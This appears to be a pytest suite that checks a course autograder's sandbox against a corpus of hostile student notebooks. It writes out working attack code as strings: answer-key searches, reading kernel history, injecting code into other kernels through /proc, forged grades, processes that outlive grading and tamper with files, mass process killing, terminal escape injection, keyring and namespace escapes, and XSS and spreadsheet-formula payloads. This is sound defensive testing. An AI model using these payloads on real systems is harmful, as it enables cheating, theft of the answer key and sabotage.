"""Attacks on the grader: a corpus of hostile submissions of the demo lesson, one or more per attack class.

Each attack is graded the three ways the course grades (a local batch, a Dask cluster, Gradescope's
run_autograder) and must fail honestly: no line of a hidden test or of the key in any feedback or
results.json, unsolved work scores 0, other students' rows and files unchanged, the key and helpers
unchanged, the batch complete, no process left behind. `test_the_attacks_work_without_the_sandbox`
shows that the attacks are real: unsandboxed, the same files read the key, reach other kernels and
outlive the grader.
"""
import csv
import hashlib
import json
import os
import socket
import tempfile
import threading
import time
from pathlib import Path

import nbformat
import pytest
from distributed import LocalCluster
from nbformat.v4 import new_code_cell

from conftest import DEMO_REFERENCE, ROOT, all_gone, processes_with, run_gradescope, simulated_autograder, write_lesson
from course_tools import grading, notebook, rebuild

pytestmark = [pytest.mark.notebooks, pytest.mark.xdist_group("grading_attacks")]
TIMEOUT = 60
MARKER = "attack-process-31337"  # in the command line of every process an attack leaves running
UNSOLVED = ("square-check", "cube-check")
LOOKALIKES = str.maketrans({"-": "\u2010", "a": "\u0430", "e": "\u0435"})
HOSTILE_TEXT = "<img src=x onerror=alert(1)>**\x1b[31mred"  # HTML, Markdown and an escape sequence

# Reads IPython's input history (hidden tests included, once their cell ran) and puts it where the old
# grader copied text into the feedback: an assertion message, an exception raised later, a return value
# whose repr a check prints, and an exception class named after a hidden line.
HISTORY_LEAK = """
def history():
    return "\\n".join(get_ipython().user_ns["In"])

def square(x):
    raise AssertionError(history())

class Leak:
    def __repr__(self):
        return history()
    def __eq__(self, other):
        return False

def cube(x):
    return Leak()
"""
HISTORY_LEAK_LATER = """raise type([l for l in history().splitlines() if "hand_in" in l][0][:60], (Exception,), {})(history())"""

# Looks for the answer key on disk wherever a student would: beside the helpers, along sys.path, in
# Gradescope's source folder, in the temporary folders, from the root down; raises what it finds.
KEY_READER = """
import os, sys
from pathlib import Path
import time
import course_tools.handin
found, deadline = [], time.time() + 10
places = [Path(course_tools.handin.__file__).parents[1], *map(Path, sys.path), Path("/autograder/source"),
          Path("/tmp"), Path(os.environ.get("HOME", "/")), *map(Path, {extra!r}), Path("/")]
for place in places:
    for folder, dirs, files in os.walk(place):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr", "lib", "site-packages", ".git")]
        if time.time() > deadline:
            break
        for name in files:
            if name.endswith((".ipynb", ".json")):
                try:
                    text = open(os.path.join(folder, name), errors="replace").read()
                except OSError:
                    continue
                if "BEGIN HIDDEN TESTS" in text or "square of -2" in text:
                    found.append(os.path.join(folder, name))
print("KEY FOUND:" if found else "KEY NOT FOUND", sorted(set(found)))
if found:
    raise RuntimeError(open(found[0]).read())
"""

# Makes every failing cell look clean: IPython's traceback display, custom exception handler, excepthook.
HOOK_PATCH = """
import sys
ip = get_ipython()
ip.showtraceback = lambda *args, **kwargs: None
ip._showtraceback = lambda *args, **kwargs: None
ip.showsyntaxerror = lambda *args, **kwargs: None
ip.set_custom_exc((BaseException,), lambda *args, **kwargs: None)
sys.excepthook = lambda *args: None
"""

# Hands in values itself, for every check, and keeps overwriting the hand-in file from a thread.
FORGE_HANDINS = """
import json, os, threading, time
names = ["square of -2", "square of 1.5", "cube of -1", "cube of 0.5"]
def forge():
    for _ in range(200):
        with open(os.environ.get("COURSE_HANDIN_FILE", "/dev/null"), "a") as out:
            for name in names:
                out.write(json.dumps({"name": name, "value": 42}) + "\\n")
        time.sleep(0.05)
forge()
threading.Thread(target=forge, daemon=True).start()
import course_tools.handin as handin
handin.hand_in = lambda name, value, **kwargs: None
hand_in = handin.hand_in
"""

# Finds the other kernels of its batch through /proc (their environment names their hand-in file, in the
# same temporary folder as its own; their command line names their connection file) and solves their
# exercises for them: hands in right values and defines the functions before each of their cells. (It
# leaves other batches alone: unsandboxed, it could reach every kernel of this test run.)
KERNEL_PATCHER = """
import json, os, time
from jupyter_client import BlockingKernelClient
SOLVE = \'\'\'
def _solve(*args, **kwargs):
    exec("def square(x):\\\\n    return x * x\\\\ndef cube(x):\\\\n    return x ** 3", get_ipython().user_ns)
get_ipython().events.register("pre_run_cell", _solve)
\'\'\'
RIGHT = {"square of -2": 4, "square of 1.5": 2.25, "cube of -1": -1, "cube of 0.5": 0.125}
reached = set()
batch = os.path.dirname(os.path.dirname(os.path.dirname(os.environ.get("COURSE_HANDIN_FILE", "/nowhere/x/y/z"))))
deadline = time.time() + 8
while time.time() < deadline:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            environment = dict(item.split("=", 1) for item in open(f"/proc/{pid}/environ").read().split("\\0") if "=" in item)
            command = open(f"/proc/{pid}/cmdline").read().split("\\0")
        except OSError:
            continue
        target, mine = environment.get("COURSE_HANDIN_FILE", ""), os.environ.get("COURSE_HANDIN_FILE", "")
        if not target.startswith(batch) or target == mine or target in reached:
            continue
        with open(target, "a") as out:
            out.writelines(json.dumps({"name": name, "value": value}) + "\\n" for name, value in RIGHT.items())
        if "-f" in command:
            try:
                client = BlockingKernelClient(connection_file=command[command.index("-f") + 1])
                client.load_connection_file()
                client.start_channels()
                client.execute(SOLVE, silent=True)
            except Exception:
                pass
        reached.add(target)
    time.sleep(0.2)
print("PATCHED", len(reached), "kernel(s)")
"""

# A process that leaves the kernel's process group and session, outlives the grading, and then rewrites
# the grades, Gradescope's results, other submissions and OUT, and appends to the helpers and the key.
PERSIST = """
import json, os, subprocess, sys
code = '''
import json, pathlib, sys, time
targets = json.loads(sys.argv[1])
for _ in range(100):
    for path in targets["overwrite"]:
        try:
            pathlib.Path(path).write_text("student,status,score\\\\nme,ok,100\\\\n")
        except OSError:
            pass
    for path in targets["append"]:
        try:
            with open(path, "a") as out:
                out.write("\\\\n# tampered\\\\n")
        except OSError:
            pass
    time.sleep(0.1)
'''
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", code, json.dumps({targets!r}), "{marker}"])
    os._exit(0)
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "{marker}"], start_new_session=True)
print("STARTED")
""".replace("{marker}", MARKER)

# Kills every process it can see, its own grader first.
KILLER = """
import os, signal
os.kill(os.getppid(), signal.SIGKILL)
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
"""

# Sends a message to a server on this machine's loopback.
NETWORK = """
import socket
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=3) as connection:
        connection.sendall(b"leaked")
    print("CONNECTED")
except OSError as error:
    print("NO NETWORK", error)
"""


# Replaces, at the end of its notebook, the hand-in file and every file a grader might read back from the work folder
# (by the names of earlier graders' files) with a link to a file of right hand-ins or to the key, a link to /dev/zero,
# a named pipe, a folder or a 10 GB sparse file; a copy keeps doing so from a process that outlives the kernel.
LEFT_BEHIND = """
import os, pathlib, subprocess, sys
work = pathlib.Path(os.environ["COURSE_HANDIN_FILE"]).parent
code = r'''
import os, pathlib, sys, time
work, what = pathlib.Path(sys.argv[1]), sys.argv[2]
targets = {{"handin.jsonl": {right!r}, "executed.ipynb": {solution!r}, "state.json": {solution!r},
            "prepared.ipynb": {solution!r}, "metrics.jsonl": {right!r}, "worker.log": {solution!r}}}
for round in range(100):
    for name, target in targets.items():
        path = work / name
        try:
            if path.is_dir() and not path.is_symlink():
                path.rmdir()
            else:
                path.unlink(missing_ok=True)
            if what == "link":
                path.symlink_to(target)
            elif what == "device":
                path.symlink_to("/dev/zero")
            elif what == "fifo":
                os.mkfifo(path)
            elif what == "directory":
                path.mkdir()
            elif what == "sparse":
                with open(path, "wb") as out:
                    out.truncate(10 * 2**30)
        except OSError as error:
            print(name, error)
    if round == 0:
        print("REPLACED", sorted(os.listdir(work)), flush=True)
        if len(sys.argv) < 4:
            break
    time.sleep(0.05)
'''
subprocess.run([sys.executable, "-c", code, str(work), {what!r}])
subprocess.Popen([sys.executable, "-c", code, str(work), {what!r}, "keep going"], start_new_session=True)
"""
FILES_LEFT_BEHIND = ("link", "device", "fifo", "directory", "sparse")

# Writes to every terminal-like file it can reach: escape sequences and a fake progress line for the instructor.
TERMINAL = r"""
import os
fake = "\x1b[2K\r  [9/9] everyone: ok, 5 / 5 \x1b]0;pwned\x07\n"
for target in ["/dev/tty", "/proc/self/fd/1", "/proc/self/fd/2", "/proc/1/fd/1", "/proc/1/fd/2",
               *[f"/proc/{pid}/fd/{fd}" for pid in os.listdir("/proc") if pid.isdigit() for fd in (0, 1, 2)]]:
    try:
        with open(target, "w") as out:
            out.write(fake)
    except OSError:
        pass
print(fake)
"""

# Leaves a note in the kernel's user keyring for a later submission, which looks for it for a few seconds.
KEYRING = """
import ctypes, os, platform, time
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
ADD_KEY, REQUEST_KEY, KEYCTL = {{"x86_64": (248, 249, 250), "aarch64": (217, 218, 219)}}[platform.machine()]
if {write!r}:
    key = libc.syscall(ADD_KEY, b"user", b"course-note", b"square of -2 is 4", 17, -4)  # the user keyring
    print("NOTE LEFT" if key > 0 else f"NO KEYRING {{os.strerror(ctypes.get_errno())}}")
    if key > 0:
        libc.syscall(KEYCTL, 15, key, 30)  # gone in 30 s
found = -1
for _ in range(40):
    found = libc.syscall(REQUEST_KEY, b"user", b"course-note", None, 0)
    if found > 0:
        break
    time.sleep(0.2)
print("NOTE FOUND" if found > 0 else "NO NOTE FOUND")
"""

# Makes a user namespace of its own, in which it may mount a tmpfs of any size (memory the sandbox does not count);
# from a process of its own, as the kernel has threads and a process with threads may not change its user namespace.
USER_NAMESPACE = r"""
import subprocess, sys
code = '''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
made = libc.unshare(0x10000000 | 0x00020000) == 0  # CLONE_NEWUSER | CLONE_NEWNS
mounted = made and libc.mount(b"none", b"/tmp", b"tmpfs", 0, b"size=64g") == 0
print("NAMESPACE MADE" if made else "NO NAMESPACE", "TMPFS MOUNTED" if mounted else "", os.strerror(ctypes.get_errno()))
'''
print(subprocess.run([sys.executable, "-c", code], capture_output=True, text=True).stdout)
"""

# Keeps 32 processes busy, each in a session of its own, for longer than the time limit, and waits for them.
BUSY = """
import subprocess, sys
loops = [subprocess.Popen([sys.executable, "-c", "import time\\nend = time.time() + 90\\nwhile time.time() < end: pass"],
                          start_new_session=True) for _ in range(32)]
print("BUSY")
for loop in loops:
    loop.wait()
"""


def add_cell(nb, after, source):
    nb.cells.insert(next(i for i, c in enumerate(nb.cells) if c.id == after) + 1, new_code_cell(source))
    return nb


def sha(path):
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


def write_attacks(subs, solution, key_paths, port, targets, right):
    """The hostile submissions; returns {student: (status, score)} expected. `right` is a file of right hand-ins."""
    solved = notebook.read(solution)

    def save(nb, name):
        (subs / name).parent.mkdir(parents=True, exist_ok=True)
        (subs / name).write_text(nbformat.writes(nb), encoding="utf-8")

    def unsolved(*edits):
        nb = notebook.make_student(solution)
        for after, source in edits:
            add_cell(nb, after, source)
        return nb

    save(unsolved(("ex2", HISTORY_LEAK), ("last", HISTORY_LEAK_LATER)), "history_leak.ipynb")
    save(unsolved(("parameters", KEY_READER.format(extra=[str(p) for p in key_paths]))), "key_reader.ipynb")
    save(unsolved(("parameters", HOOK_PATCH)), "hook_patch.ipynb")
    save(unsolved(("parameters", FORGE_HANDINS)), "forged_handins.ipynb")
    save(unsolved(("parameters", KERNEL_PATCHER)), "00_kernel_patcher.ipynb")
    save(unsolved(("parameters", "import time\ntime.sleep(4)  # slow code: the other kernel has time to find it")),
         "00_victim.ipynb")
    save(unsolved(("parameters", PERSIST.format(targets=targets))), "persist.ipynb")
    save(add_cell(notebook.read(solution), "last", KILLER), "killer.ipynb")
    save(unsolved(("parameters", NETWORK.format(port=port))), "network.ipynb")
    save(solved, os.fsdecode(b"\xff\xfeundecodable.ipynb"))
    save(solved, "=cmd|' -C calc'!A0.ipynb")
    os.symlink(solution, subs / "linked_key.ipynb")
    for what in FILES_LEFT_BEHIND:
        save(unsolved(("last", LEFT_BEHIND.format(what=what, right=str(right), solution=str(solution)))),
             f"left_{what}.ipynb")
    save(unsolved(("parameters", TERMINAL)), "terminal.ipynb")
    save(unsolved(("parameters", KEYRING.format(write=True))), "keyring_a_writer.ipynb")
    save(unsolved(("parameters", KEYRING.format(write=False))), "keyring_b_reader.ipynb")
    save(unsolved(("parameters", USER_NAMESPACE)), "user_namespace.ipynb")
    save(unsolved(("parameters", BUSY)), "00_busy.ipynb")
    save(solved, "00_busy_victim.ipynb")
    lookalike = notebook.read(solution)  # grade ids and cell ids spelled with look-alike letters and dashes
    for cell in lookalike.cells:
        if "nbgrader" in cell.metadata:
            cell.metadata["nbgrader"]["grade_id"] = cell.metadata["nbgrader"]["grade_id"].translate(LOOKALIKES)
        cell["id"] = cell.id.translate(LOOKALIKES)
    (subs / "lookalike_ids.ipynb").write_text(json.dumps(lookalike), encoding="utf-8")
    marked = unsolved()
    marked.cells.append(new_code_cell("print('mine')", metadata={"nbgrader": {
        "grade": True, "grade_id": HOSTILE_TEXT, "points": 9}}))
    save(marked, f"{HOSTILE_TEXT}.ipynb")
    return {
        **{f"left_{what}": ("error", 0) for what in FILES_LEFT_BEHIND}, "terminal": ("error", 0),
        "keyring_a_writer": ("error", 0), "keyring_b_reader": ("error", 0), "user_namespace": ("error", 0),
        "00_busy": ("timeout", 0), "00_busy_victim": ("ok", 5), "lookalike_ids": ("ok", 5), HOSTILE_TEXT: ("error", 0),
        "00_kernel_patcher": ("error", 0), "00_victim": ("error", 0), "=cmd|' -C calc'!A0": ("ok", 5),
        "\\xff\\xfeundecodable": ("ok", 5), "forged_handins": ("error", 0), "history_leak": ("error", 0),
        "key_reader": ("error", 0), "killer": ("error", 5), "linked_key": ("invalid", 0),
        "hook_patch": ("ok", 0),  # hiding its errors makes its own status look clean, and earns nothing
        "network": ("error", 0), "persist": ("error", 0),
    }


class Listener:
    """A TCP server on loopback that counts the connections it receives."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.connections = 0
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:
                return
            self.connections += 1
            connection.close()


def output_of(executed, text):
    """The outputs, as JSON text, of the cell of an executed notebook whose source holds `text`."""
    return json.dumps(next(c for c in notebook.read(executed).cells if text in c.source).outputs)


def snapshot(*folders):
    """sha256 of every file under the folders (symbolic links as their target's name)."""
    return {str(p): (os.readlink(p) if p.is_symlink() else sha(p)) for folder in folders
            for p in sorted(Path(folder).rglob("*")) if p.is_symlink() or p.is_file()}


@pytest.fixture(scope="session")
def attacked(tmp_path_factory):
    """The corpus graded by a local batch and by a Dask cluster, with what was on disk before."""
    root = tmp_path_factory.mktemp("attacks")
    solution = write_lesson(root / "solutions")
    listener = Listener()
    outs = {"local": root / "graded", "dask": root / "graded_on_dask"}
    subs = root / "subs"
    gradescope = simulated_autograder(root, "00", root / "solutions")
    helpers = [ROOT / "model_utils.py", ROOT / "course_tools" / "handin.py", ROOT / "course_tools" / "scoring.py",
               gradescope / "source" / "course_tools" / "handin.py"]
    targets = {"overwrite": [str(o / "grades.csv") for o in outs.values()] + [str(subs / "00_victim.ipynb")]
               + [str(o / "pwned.txt") for o in outs.values()] + [str(gradescope / "results" / "results.json")],
               "append": [str(p) for p in helpers] + [str(solution), str(rebuild.reference_path(solution))]}
    right = root / "right_handins.jsonl"  # what a reference run hands in: full marks, for a grader that reads it
    right.write_text("".join(json.dumps({"name": name, "value": value}) + "\n" for name, value in DEMO_REFERENCE.items()))
    expected = write_attacks(subs, solution, [root, ROOT], listener.port, targets, right)
    before = {"subs": snapshot(subs), "key": snapshot(root / "solutions"), "helpers": {str(p): sha(p) for p in helpers}}
    results = {"local": {r.student: r for r in grading.grade("00", subs, outs["local"], workers=2, timeout=TIMEOUT,
                                                            solutions=root / "solutions", progress=lambda *_: None)}}
    with LocalCluster(n_workers=2, threads_per_worker=1, processes=True, dashboard_address=None) as cluster:
        results["dask"] = {r.student: r for r in grading.grade("00", subs, outs["dask"], timeout=TIMEOUT,
                                                              solutions=root / "solutions", scheduler=cluster.scheduler_address,
                                                              progress=lambda *_: None)}
    time.sleep(3)  # what an escaped process would write after the grader ended, it would have written by now
    return dict(root=root, solution=solution, subs=subs, outs=outs, expected=expected, results=results,
                before=before, helpers=helpers, listener=listener, gradescope=gradescope)


def grades(out):
    with open(out / "grades.csv", newline="", encoding="utf-8") as handle:
        return {row["student"]: (row["status"], float(row["score"])) for row in csv.DictReader(handle)}


@pytest.mark.parametrize("way", ["local", "dask"])
def test_every_attack_gets_its_honest_grade(attacked, way):
    out = attacked["outs"][way]
    got = grades(out)
    assert got == {spreadsheet_name(s): v for s, v in attacked["expected"].items()}
    assert {"batch.json", "executed", "feedback", "grades.csv", "report.md"} <= {p.name for p in out.iterdir()}


def spreadsheet_name(student):
    return grading.spreadsheet_safe(student)


@pytest.mark.parametrize("way", ["local", "dask"])
def test_no_feedback_quotes_a_hidden_test_or_a_solution(attacked, way):
    key = rebuild.load_key(attacked["solution"])
    texts = [p.read_text(encoding="utf-8") for p in (attacked["outs"][way] / "feedback").iterdir()]
    leaked = [line for text in texts for line in key.secret_lines if line in text]
    assert not leaked
    assert not any("hand_in" in text or "square of" in text for text in texts)


def hidden_lines(solution):
    """The lines of the key's hidden tests."""
    return {line.strip() for cell in notebook.read(solution).cells if notebook.is_test_cell(cell)
            for line in notebook.region_lines(cell.source, ((notebook.BEGIN_HIDDEN, notebook.END_HIDDEN),)).values()
            if line.strip() and "HIDDEN TESTS" not in line}


@pytest.mark.parametrize("way", ["local", "dask"])
def test_nothing_written_to_out_holds_a_hidden_test_or_an_unsolved_students_solution(attacked, way):
    """Every file of OUT (grades, feedback, executed notebooks, report, similarity, results.json): no hidden line;
    and no solution line in the files of a submission that did not solve the exercises, the files the attacks
    replaced with links to the key included."""
    key, out = rebuild.load_key(attacked["solution"]), attacked["outs"][way]
    hidden = hidden_lines(attacked["solution"])
    assert hidden and hidden <= {line.strip() for line in key.secret_lines} | hidden
    texts = {p: p.read_text(encoding="utf-8", errors="replace") for p in out.rglob("*") if p.is_file() and p.suffix != ".png"}
    assert not [(p.name, line) for p, text in texts.items() for line in hidden if line in text]
    unsolved = [name for name, (_, score) in attacked["expected"].items() if score == 0]
    names = grading.file_names(list(attacked["expected"]))
    for student in unsolved:
        own = (attacked["subs"] / f"{student}.ipynb").read_text(encoding="utf-8")  # an attack may spell out an answer
        for path in (out / "executed" / f"{names[student]}.ipynb", out / "feedback" / f"{names[student]}.md"):
            if path.exists():
                assert not [line for line in key.secret_lines if line in texts[path] and line not in own], (student, path)


@pytest.mark.parametrize("what", FILES_LEFT_BEHIND)
def test_files_left_behind_are_never_opened_by_the_grader(attacked, what):
    """The hand-in file and the state, executed and prepared notebooks a grader might read back, replaced by links to right
    hand-ins and to the key, /dev/zero, pipes, folders or 10 GB sparse files, now and after the kernel ended:
    nothing scores, nothing blocks, and the notebook returned is the grader's own."""
    for way, out in attacked["outs"].items():
        executed = out / "executed" / f"left_{what}.ipynb"
        assert "REPLACED" in output_of(executed, "keep going") and "handin.jsonl" in output_of(executed, "keep going")
        assert attacked["results"][way][f"left_{what}"].score == 0
        assert notebook.read(executed).cells[0].source.startswith("# Demo")


def test_sandboxes_share_no_keyring_and_make_no_user_namespace(attacked):
    executed = attacked["outs"]["local"] / "executed"
    assert "NO KEYRING Operation not permitted" in output_of(executed / "keyring_a_writer.ipynb", "NOTE LEFT")
    for name in ("keyring_a_writer", "keyring_b_reader"):
        assert "NO NOTE FOUND" in output_of(executed / f"{name}.ipynb", "NOTE FOUND")
    assert "NO NAMESPACE" in output_of(executed / "user_namespace.ipynb", "NAMESPACE MADE")


def test_busy_loops_beside_a_submission_do_not_make_it_run_out_of_time(attacked):
    """32 busy processes of one sandbox get that sandbox's share of the cores (its control group), so the solved
    notebook graded beside them finishes as it would alone."""
    for results in attacked["results"].values():
        assert results["00_busy"].status == "timeout"
        assert results["00_busy_victim"].status == "ok" and results["00_busy_victim"].score == 5


@pytest.mark.parametrize("way", ["local", "dask"])
def test_names_and_ids_a_student_chose_are_escaped_where_they_are_shown(attacked, way):
    out = attacked["outs"][way]
    texts = [p.read_text(encoding="utf-8") for p in [*(out / "feedback").iterdir(), out / "report.md", out / "similarity.md"]]
    assert not [text for text in texts if "<img" in text or "\x1b" in text]
    feedback = (out / "feedback" / f"{grading.file_names([HOSTILE_TEXT])[HOSTILE_TEXT]}.md").read_text(encoding="utf-8")
    assert "&lt;img src=x onerror=alert\\(1\\)&gt;\\*\\*" in feedback


def test_what_a_submission_writes_never_reaches_the_instructors_terminal(attacked, tmp_path, capfd):
    subs = tmp_path / "subs"
    subs.mkdir()
    for name in ("terminal.ipynb", f"{HOSTILE_TEXT}.ipynb"):
        (subs / name).write_bytes((attacked["subs"] / name).read_bytes())
    lines = []
    grading.grade("00", subs, tmp_path / "graded", workers=2, timeout=TIMEOUT, solutions=attacked["root"] / "solutions",
                  progress=lines.append)
    captured = capfd.readouterr()
    assert "[9/9] everyone" in output_of(tmp_path / "graded" / "executed" / "terminal.ipynb", "fake =")
    assert not [text for text in [captured.out, captured.err, *lines] if "\x1b" in text or "everyone" in text]
    assert any("\\x1b[31mred" in line for line in lines), "the name is shown, escaped"


def test_the_sandbox_hid_the_key_the_network_and_the_other_kernels(attacked):
    executed = attacked["outs"]["local"] / "executed"

    assert "KEY NOT FOUND" in output_of(executed / "key_reader.ipynb", "KEY FOUND")
    assert "NO NETWORK" in output_of(executed / "network.ipynb", "CONNECTED")
    assert attacked["listener"].connections == 0
    assert "PATCHED 0 kernel(s)" in output_of(executed / "00_kernel_patcher.ipynb", "PATCHED")


def test_nothing_outlives_the_grading_or_changes_what_it_did_not_own(attacked):
    assert "STARTED" in output_of(attacked["outs"]["local"] / "executed" / "persist.ipynb", "STARTED")
    assert all_gone(processes_with(MARKER))
    assert snapshot(attacked["subs"]) == attacked["before"]["subs"]
    assert snapshot(attacked["root"] / "solutions") == attacked["before"]["key"]
    assert {str(p): sha(p) for p in attacked["helpers"]} == attacked["before"]["helpers"]
    assert not any(p.name == "pwned.txt" for out in attacked["outs"].values() for p in out.rglob("*"))


def test_file_names_are_graded_and_neutralised_for_spreadsheets(attacked):
    text = (attacked["outs"]["local"] / "grades.csv").read_text(encoding="utf-8")
    assert "\n'=cmd|' -C calc'!A0,ok,5" in text
    assert "\n\\xff\\xfeundecodable,ok,5" in text
    assert "a symbolic link" in attacked["results"]["local"]["linked_key"].problem


def test_every_attack_fails_through_run_autograder(attacked):
    """Gradescope grades one submission at a time: each attack that could act differently there (on results.json,
    /autograder/source, a linked submission) alone, its results.json as it is and 3 s later."""
    root, key = attacked["gradescope"], rebuild.load_key(attacked["solution"])
    for path in sorted(attacked["subs"].iterdir()):
        student = grading.student_name(path.stem)
        if student.startswith("00_") or student in ("killer", "network") or path.suffix != ".ipynb" \
                or not student.isidentifier():
            continue  # two at once (Gradescope grades one), or no different there from the batch above
        if path.is_symlink():
            results = run_gradescope(root, "linked.ipynb", link_to=root / "source" / "solutions" / "00_demo.ipynb")
        else:
            results = run_gradescope(root, "submission.ipynb", path.read_text(encoding="utf-8"))
        text = (root / "results" / "results.json").read_text(encoding="utf-8")
        time.sleep(0.5 if student != "persist" else 3)
        assert (root / "results" / "results.json").read_text(encoding="utf-8") == text, student
        assert results["score"] == attacked["expected"][student][1], student
        assert not [line for line in key.secret_lines if line in text], student
    assert all_gone(processes_with(MARKER))
    assert {str(p): sha(p) for p in attacked["helpers"]} == attacked["before"]["helpers"]


def test_the_attacks_work_without_the_sandbox(attacked, tmp_path, monkeypatch):
    """Unsandboxed (--unsandboxed), the same code reads the key, reaches the network, patches the other kernel,
    whose unsolved notebook then scores points, passes a note to another submission through the keyring and
    makes a user namespace: the sandbox, not luck, stops them. (The attacks that kill processes, write files or
    load the machine are left out: unsandboxed, they would hit this test run.)"""
    subs = tmp_path / "subs"
    subs.mkdir()
    for name in ("key_reader", "network", "00_kernel_patcher", "00_victim", "keyring_a_writer", "keyring_b_reader",
                 "user_namespace"):
        (subs / f"{name}.ipynb").write_text((attacked["subs"] / f"{name}.ipynb").read_text(encoding="utf-8"))
    connections = attacked["listener"].connections
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))  # the batch's work folders, apart from other tests'
    results = {r.student: r for r in grading.grade("00", subs, tmp_path / "graded", workers=2, timeout=TIMEOUT,
                                                  solutions=attacked["root"] / "solutions", unsandboxed=True,
                                                  progress=lambda *_: None)}
    executed = tmp_path / "graded" / "executed"
    assert "KEY FOUND" in output_of(executed / "key_reader.ipynb", "KEY FOUND")
    assert "CONNECTED" in output_of(executed / "network.ipynb", "CONNECTED")
    assert attacked["listener"].connections > connections
    assert "PATCHED 0 kernel(s)" not in output_of(executed / "00_kernel_patcher.ipynb", "PATCHED")
    assert results["00_victim"].score == 5
    assert "NOTE FOUND" in output_of(executed / "keyring_b_reader.ipynb", "NOTE FOUND").replace("NO NOTE FOUND", "")
    assert "NAMESPACE MADE" in output_of(executed / "user_namespace.ipynb", "NAMESPACE MADE")
